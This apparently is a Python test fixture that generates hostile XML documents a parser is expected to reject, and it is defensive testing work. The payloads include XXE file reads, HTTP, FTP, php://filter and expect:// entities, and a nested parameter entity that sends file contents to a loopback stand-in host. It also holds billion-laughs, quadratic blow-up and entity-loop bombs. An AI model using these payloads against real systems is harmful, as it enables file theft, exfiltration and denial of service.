"""XML that reads files, calls home, or grows: each must be refused by whoever parses it."""

from __future__ import annotations

from collections.abc import Callable

Evil = Callable[[str, str, str, str], bytes]


def _document(subset: str, text: str, encoding: str = "utf-8", attribute: str = "") -> Evil:
    def build(file: str, root: str, row: str, field: str) -> bytes:
        inside = f"<{row}{attribute}><{field}>http://a/{text}</{field}></{row}>"
        document = f"<!DOCTYPE {root} {subset}>\n<{root}>{inside}</{root}>"
        if encoding != "utf-8":
            document = f'<?xml version="1.0" encoding="{encoding}"?>{document}'
        return document.replace("FILE", file).encode(encoding)

    return build


def _plain(body: str) -> Evil:
    def build(file: str, root: str, row: str, field: str) -> bytes:
        names = {"ROOT": root, "ROW": row, "FIELD": field, "FILE": file}
        text = body
        for name, value in names.items():
            text = text.replace(name, value)
        return text.encode()

    return build


_LAUGHS = '[<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
)
_QUADRATIC = f'[<!ENTITY q "{"a" * 50_000}">]'
_HOME = "http://127.0.0.1:9/x.dtd"

EVIL: dict[str, Evil] = {
    "external entity, file": _document('[<!ENTITY x SYSTEM "FILE">]', "&x;"),
    "external entity, file, utf-16": _document('[<!ENTITY x SYSTEM "FILE">]', "&x;", "utf-16"),
    "external entity, file, utf-7 label": _plain(
        '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE ROOT +AFsAPAAh-ENTITY x SYSTEM "FILE">]>'
    ),
    "external entity, http": _document(f'[<!ENTITY x SYSTEM "{_HOME}">]', "&x;"),
    "external entity, ftp": _document('[<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">]', "&x;"),
    "external entity, public": _document(f'[<!ENTITY x PUBLIC "any" "{_HOME}">]', "&x;"),
    "external entity, php filter": _document('[<!ENTITY x SYSTEM "php://filter/x">]', "&x;"),
    "external entity, expect": _document('[<!ENTITY x SYSTEM "expect://id">]', "&x;"),
    "external entity, /dev/random": _document('[<!ENTITY x SYSTEM "/dev/random">]', "&x;"),
    "external entity, unparsed": _document(
        '[<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "FILE" NDATA n>]', ""
    ),
    "external subset, http": _document(f'SYSTEM "{_HOME}"', ""),
    "external subset, file": _document('SYSTEM "FILE"', ""),
    "external subset, public": _document(f'PUBLIC "-//W3C//DTD" "{_HOME}"', ""),
    "parameter entity, file": _document('[<!ENTITY % x SYSTEM "FILE"> %x;]', ""),
    "parameter entity, http": _document(f'[<!ENTITY % x SYSTEM "{_HOME}"> %x;]', ""),
    "parameter entity, nested": _document(
        '[<!ENTITY % f SYSTEM "FILE"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1:9/%f;\'>">'
        "%e; %s;]",
        "",
    ),
    "entity in an attribute": _document('[<!ENTITY x "y">]', "", attribute=' a="&x;"'),
    "default attribute": _document('[<!ATTLIST url loc CDATA "http://127.0.0.1:9/">]', ""),
    "internal entity": _document('[<!ENTITY x "y">]', "&x;"),
    "billion laughs": _document(_LAUGHS + "]", "&l9;"),
    "billion laughs in an attribute": _document(_LAUGHS + "]", "", attribute=' a="&l9;"'),
    "quadratic blow-up": _document(_QUADRATIC, "&q;" * 5000),
    "entity loop": _document('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
    "parameter entity loop": _document("[<!ENTITY % a '&#37;b;'><!ENTITY % b '%a;'> %a;]", ""),
    "an empty document type": _document("", ""),
    "undeclared entity": _plain("<ROOT><ROW><FIELD>http://a/&x;</FIELD></ROW></ROOT>"),
    "endless nesting": _plain("<ROOT>" + "<a>" * 100_000),
    "endless attributes": _plain("<ROOT " + " ".join(f'a{n}="1"' for n in range(20_000))),
    "a giant name": _plain("<ROOT><" + "a" * 11_000_000),
    "a giant comment": _plain("<ROOT><!--" + "a" * 11_000_000),
    "two roots": _plain("<ROOT></ROOT><ROOT></ROOT>"),
    "a null byte": _plain("<ROOT>\x00</ROOT>"),
    "a forbidden character": _plain("<ROOT>&#0;</ROOT>"),
    "a forbidden reference": _plain("<ROOT>&#xFFFFFFFFF;</ROOT>"),
    "a declaration in the middle": _plain("<ROOT><!DOCTYPE x></ROOT>"),
}
